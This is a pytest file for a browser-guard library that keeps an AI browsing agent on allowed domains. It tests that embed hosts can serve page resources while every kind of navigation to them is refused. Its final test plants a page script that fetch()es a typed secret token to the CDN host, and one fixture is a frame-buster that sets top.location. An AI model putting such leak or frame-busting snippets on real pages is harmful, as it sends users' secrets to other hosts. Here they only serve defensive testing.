"""A ``domain_allow`` rule's ``subresources`` hosts (issue 29): a page may load scripts, images,
fetches and embedded frames from them, but no tab may go there — not the agent's goto, link or
form, not the page's own script navigation, meta refresh or popup, not an embedded frame moving
its top — and hosts not listed stay refused. Both layers: the navigation gate (no proxy) and
``launch(proxy=True)``; real Chromium, the embed host served over HTTPS on 127.0.0.1 (the
network layer tells a frame by ``Sec-Fetch-Dest``, which Chromium sends to HTTPS origins).

Before the ``subresources`` field, the same page with ``domain_allow: [.news.test]`` loads
nothing from ``cdn.test`` (the embed test fails); listing ``cdn.test`` in ``domain_allow`` instead
lets every top-level case through (the refusal tests fail)."""

from __future__ import annotations

import asyncio
import base64
import hashlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from pagewarden import ActionBlocked, Guard, PolicySet, launch
from pagewarden.testing import LocalSite, Response
from tests.proxy.tls import HTTPSServer, make_ca, make_server_cert

pytestmark = pytest.mark.browser

CDN = "https://cdn.test"
LANDING = f"{CDN}/landing"
SECRET = "tok-7f3a9c2e51d8"

_EMBEDS = f"""<!doctype html><html><head><title>Embeds</title>
<script src="{CDN}/app.js"></script><script src="http://other.test/app.js"></script></head><body>
<h1>Article</h1><img src="{CDN}/img.png" alt=""><img src="http://other.test/img.png" alt="">
<iframe id="embed" src="{CDN}/embed" title="Video"></iframe>
<iframe id="other" src="http://other.test/embed" title="Other"></iframe>
<script>fetch('{CDN}/api', {{mode: 'no-cors'}});
fetch('http://other.test/api', {{mode: 'no-cors'}}).catch(() => {{}});</script></body></html>"""

_CASES = {
    "link": f"<a id='t' href='{LANDING}'>Read on</a>",
    "form": f"<form action='{LANDING}' method='post'><input name='q' value='1'>"
    "<button id='t' type='submit'>Send</button></form>",
    "script": f"<button id='t' onclick=\"location.href='{LANDING}'\">Next</button>",
    "window_open": f"<button id='t' onclick=\"window.open('{LANDING}')\">Help</button>",
    "meta_refresh": f"<meta http-equiv='refresh' content='0;url={LANDING}'>",
    "frame_top": f"<iframe id='f' src='{CDN}/buster' style='width:320px;height:120px;border:0'></iframe>",
    "goto": "",
}


def _policies(*extra: dict[str, Any]) -> PolicySet:
    rule = {"domain_allow": {"patterns": [".news.test"], "subresources": ["cdn.test"]}}
    return PolicySet.from_dict({"version": 1, "policies": [{
        "id": "STAY-ON-NEWS", "category": "boundary", "risk_level": "high",
        "description": "Stay on the news site; its embeds come from cdn.test", "rules": [rule, *extra],
    }]})  # fmt: skip


def _pin(cert: Path) -> str:
    """base64(sha256(SPKI)) of a certificate file (the value Chromium's pin list takes)."""
    certificate = x509.load_pem_x509_certificate(cert.read_bytes())
    spki = certificate.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return base64.b64encode(hashlib.sha256(spki).digest()).decode("ascii")


@dataclass
class Sites:
    news: LocalSite
    cdn: HTTPSServer
    ca: Path
    cert: Path

    def launch(self, guard: Guard, proxy: bool) -> Any:
        host_map = {"cdn.test": self.cdn.port, "*.test": self.news.port}
        if proxy:  # the proxy verifies the origin's certificate against the test CA
            return launch(guard, proxy=True, host_map=host_map,
                          proxy_options={"ssl_verify_upstream_trusted_ca": str(self.ca)})  # fmt: skip
        pin = f"--ignore-certificate-errors-spki-list={_pin(self.cert)}"  # Chromium trusts the origin's key
        return launch(guard, host_map=host_map, browser_args=(pin,))

    def cdn_paths(self) -> list[str]:
        return [p for p in self.cdn.paths if p != "/favicon.ico"]


@pytest.fixture
def sites(tmp_path: Path) -> Iterator[Sites]:
    ca_path, ca_key, ca_cert = make_ca(tmp_path)
    cert, key = make_server_cert(tmp_path, "cdn.test", ca_key, ca_cert)
    cdn = HTTPSServer(cert, key, pages={
        "/app.js": "document.documentElement.dataset.cdn = 'loaded';",
        "/embed": "<!doctype html><title>Player</title><h1>player</h1>",
        "/buster": f"<!doctype html><button id='play' style='width:300px;height:100px' "
        f"onclick=\"top.location.href='{LANDING}'\">Play</button>",
    })  # fmt: skip
    news = LocalSite()
    news.route("news.test", "/embeds", lambda r: Response(_EMBEDS))
    for name, body in _CASES.items():
        head = f"<!doctype html><html><head><title>{name}</title></head>"
        page = f"{head}<body><h1>News</h1>{body}</body></html>"
        news.route("news.test", f"/{name}", lambda r, page=page: Response(page))
    for path in ("/app.js", "/img.png", "/embed", "/api"):
        news.route("other.test", path, lambda r: Response("<p>reached</p>"))
    with news:
        yield Sites(news, cdn, ca_path, cert)
    cdn.close()


LAYERS = pytest.mark.parametrize("proxy", [False, True], ids=["gate", "proxy"])


@LAYERS
async def test_a_page_loads_from_its_subresource_hosts_and_nowhere_else(sites: Sites, proxy: bool) -> None:
    guard = Guard(policies=_policies())
    async with sites.launch(guard, proxy) as page:
        await page.goto("http://news.test/embeds")
        await page.frame_locator("#embed").locator("h1").wait_for(state="attached", timeout=10_000)
        assert await page.frame_locator("#embed").locator("h1").text_content() == "player"
        assert await page.locator("html").get_attribute("data-cdn") == "loaded"  # the CDN's script ran
        for _ in range(40):
            if "/api" in sites.cdn_paths():
                break
            await asyncio.sleep(0.1)
        await page.hover("h1")  # nothing the page loaded is raised at the agent
    # the embed host served the script, the image, the frame and the fetch
    assert {"/app.js", "/img.png", "/embed", "/api"} <= set(sites.cdn_paths())
    # a host no rule names is still refused, script, image, frame and fetch alike
    assert sites.news.requests_to("other.test") == []


@LAYERS
async def test_a_guard_can_add_subresource_hosts_to_every_allow_list(sites: Sites, proxy: bool) -> None:
    """``Guard(subresource_hosts=[...])`` (also a `launch` option): the same as listing the hosts
    under each ``domain_allow`` rule's ``subresources``, for this guard only."""
    plain = PolicySet.from_dict({"version": 1, "policies": [{
        "id": "STAY-ON-NEWS", "category": "boundary", "risk_level": "high", "description": "Stay on news",
        "rules": [{"domain_allow": [".news.test"]}],
    }]})  # fmt: skip
    guard = Guard(policies=plain, subresource_hosts=["cdn.test"])
    async with sites.launch(guard, proxy) as page:
        await page.goto("http://news.test/embeds")
        await page.frame_locator("#embed").locator("h1").wait_for(state="attached", timeout=10_000)
        assert await page.frame_locator("#embed").locator("h1").text_content() == "player"
        with pytest.raises(ActionBlocked):
            await page.goto(LANDING)
    assert "/embed" in sites.cdn_paths() and "/landing" not in sites.cdn_paths()
    assert sites.news.requests_to("other.test") == []


async def _act(case: str, page: Any) -> None:
    if case == "goto":
        await page.goto(LANDING)
    elif case == "meta_refresh":
        await page.goto("http://news.test/meta_refresh")
    elif case == "frame_top":
        await page.goto("http://news.test/frame_top")
        await page.frame_locator("#f").locator("#play").click()
    else:
        await page.goto(f"http://news.test/{case}")
        await page.click("#t")


@LAYERS
@pytest.mark.parametrize("case", list(_CASES))
async def test_no_tab_may_go_to_a_subresource_host(sites: Sites, proxy: bool, case: str) -> None:
    guard = Guard(policies=_policies())
    refused: list[dict[str, Any]] = []
    guard.subscribe(lambda e: refused.append(e.data) if e.kind == "network" else None)
    blocked: ActionBlocked | None = None
    async with sites.launch(guard, proxy) as page:
        try:
            await _act(case, page)
            await asyncio.sleep(0.8)
            await page.hover("h1")  # a refusal made after the action returned is raised here
        except ActionBlocked as exc:
            blocked = exc
        # a tab on the embed host shows the network layer's refusal page at most (the gate's 204
        # leaves it where it was)
        shown = [(p.url, await p.title()) for p in page.context.pages]
    assert blocked is not None, f"{case}: the tab's way to {LANDING} was not refused"
    assert "/landing" not in sites.cdn_paths()
    on_cdn = [title for url, title in shown if url.startswith(CDN)]
    assert on_cdn == [] if not proxy else set(on_cdn) <= {"Blocked by pagewarden"}, shown
    if case in ("window_open", "meta_refresh", "frame_top"):
        # the page (not the agent's judged action) went there: the layer refused it
        assert any(str(d.get("host")) == "cdn.test" and not d.get("subframe") for d in refused), refused


async def test_the_exfiltration_filter_still_judges_what_goes_to_a_subresource_host(sites: Sites) -> None:
    leak = {"sensitive_data": {"values": [SECRET], "allow_domains": ["news.test"]}}
    sites.news.route("news.test", "/leak", lambda r: Response(
        "<title>leak</title><h1>Form</h1><input id='k' oninput=\"fetch('" + CDN + "/api?k=' + "
        "encodeURIComponent(this.value), {mode: 'no-cors'}).catch(() => {})\">"))
    guard = Guard(policies=_policies(leak))
    async with sites.launch(guard, proxy=True) as page:
        await page.goto("http://news.test/leak")
        await page.fill("#k", "hello")
        await page.fill("#k", SECRET)
        await asyncio.sleep(0.8)
    paths = sites.cdn_paths()
    assert "/api?k=hello" in paths  # the host is reachable for what the page loads
    assert not any(SECRET in p for p in paths)  # but not for the secret
